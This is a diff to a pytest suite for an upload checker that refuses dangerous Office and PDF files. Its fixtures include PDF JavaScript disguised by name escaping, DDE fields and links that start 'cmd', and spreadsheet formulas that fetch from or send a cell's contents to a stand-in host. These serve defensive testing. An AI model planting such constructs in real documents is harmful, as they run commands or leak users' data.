@@ -2,6 +2,7 @@
 
 import io
 import zipfile
+import zlib
 from collections.abc import Callable
 
 import pytest
@@ -52,6 +53,34 @@ def _word_with(entries: dict[str, str | bytes]) -> SimpleUploadedFile:
     return _file("a.docx", content.getvalue())
 
 
+def _word(*inside: str) -> str:
+    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    return f'<w:p xmlns:w="{name}">{"".join(inside)}</w:p>'
+
+
+def _field(*codes: str) -> list[str]:
+    """A field whose code is spread over runs."""
+    runs = [f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes]
+    return ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>', *runs, '<w:r><w:fldChar w:fldCharType="end"/></w:r>']
+
+
+def _objects(inside: bytes) -> bytes:
+    """A PDF with an object stream."""
+    packed = zlib.compress(inside)
+    return PDF.replace(b"trailer", b"2 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\n" + packed + b"\ntrailer")
+
+
+def _sheet(cell: str, entries: dict[str, str] | None = None) -> SimpleUploadedFile:
+    """A workbook with one cell, and further parts."""
+    content, book = io.BytesIO(), Workbook()
+    book.active["A1"] = cell
+    book.save(content)
+    with zipfile.ZipFile(content, "a") as archive:
+        for name, text in (entries or {}).items():
+            archive.writestr(name, text)
+    return _file("a.xlsx", content.getvalue())
+
+
 def _with_flag(content: bytes, flag: int) -> bytes:
     """The archive with this flag set on its first entry, at both places that state it."""
     changed = bytearray(content)
@@ -100,6 +129,36 @@ BAD: dict[str, tuple[Callable[[], SimpleUploadedFile], str]] = {
         lambda: _word_with({"word/_rels/settings.xml.rels": RELATIONS.format(kind="attachedTemplate")}), "external",
     ),
     "a PDF with a script": (lambda: _file("a.pdf", PDF.replace(b"/Root", b"/JavaScript 2 0 R /Root")), "active"),
+    "a PDF with a script by another spelling": (
+        lambda: _file("a.pdf", PDF.replace(b"/Root", b"/J#61vaScript 2 0 R /Root")), "active",
+    ),
+    "a PDF with a script in an object stream": (lambda: _file("a.pdf", _objects(b"<</S/JavaScript/JS(a)>>")), "active"),
+    "a PDF with objects nobody can look into": (
+        lambda: _file("a.pdf", PDF.replace(b"trailer", b"2 0 obj <</Type/Obj#53tm>> stream\nabc\ntrailer")), "active",
+    ),
+    "a PDF that sends what is typed": (lambda: _file("a.pdf", PDF.replace(b"/Root", b"/SubmitForm 1 /Root")), "active"),
+    "a field that starts a program": (
+        lambda: _word_with({"word/footer1.xml": _word(*_field("DDE", "AUTO c x"))}), "active",
+    ),
+    "a picture from elsewhere by a field": (
+        lambda: _word_with({"word/a.xml": _word('<w:fldSimple w:instr=\'INCLUDEPICTURE "http://x.example/a"\'/>')}),
+        "active",
+    ),
+    "a page as a part of the text": (
+        lambda: _word_with({"word/_rels/b.rels": RELATIONS.format(kind="aFChunk").replace("External", "Internal")}),
+        "active",
+    ),
+    "a workbook with macros in it": (lambda: _word_with({"word/embeddings/a.xlsm": b"PK"}), "embedded"),
+    "an object anywhere": (lambda: _word_with({"word/media/picture.png": OLE}), "embedded"),
+    "a formula that fetches": (lambda: _sheet('=_xlfn.WEBSERVICE("http://x.example")'), "active"),
+    "a formula that sends what is in a cell": (lambda: _sheet('=HYPERLINK("http://x.example/"&A2,"more")'), "active"),
+    "a workbook that starts a program": (
+        lambda: _sheet("A", {"xl/externalLinks/externalLink1.xml": '<a xmlns="b"><ddeLink ddeService="cmd"/></a>'}),
+        "active",
+    ),
+    "a workbook that asks a database": (
+        lambda: _sheet("A", {"xl/connections.xml": '<connections xmlns="b"/>'}), "active",
+    ),
     "too many parts": (lambda: _word_with({f"word/{n}.xml": "" for n in range(2_001)}), "bomb"),
     "a bomb": (lambda: _word_with({"word/media/a.png": bytes(20 * 1024 * 1024)}), "bomb"),
     "an invisible letter in its name": (lambda: _file("a\u202efdp.docx", b"PK"), "control_character"),
@@ -123,6 +182,17 @@ def test_what_is_not_is_refused_for_its_own_reason(name: str) -> None:
 
 def test_a_link_that_somebody_follows_is_no_part_from_elsewhere() -> None:
     check_document(_word_with({"word/_rels/b.xml.rels": RELATIONS.format(kind="hyperlink")}))
+
+
+def test_fields_and_formulas_that_do_no_harm_are_taken() -> None:
+    fields = [
+        *_field("PAGE"),
+        *_field("DATE "),
+        *_field("INCLUDEPICTURE picture.png"),
+        *_field("MACROBUTTON NoMacro Type"),
+    ]
+    check_document(_word_with({"word/footer1.xml": _word(*fields)}))
+    check_document(_sheet('=HYPERLINK("#Sheet!A2","go")&SUM(A2:A3)'))
 
 
 def test_a_path_in_a_name_is_refused() -> None:
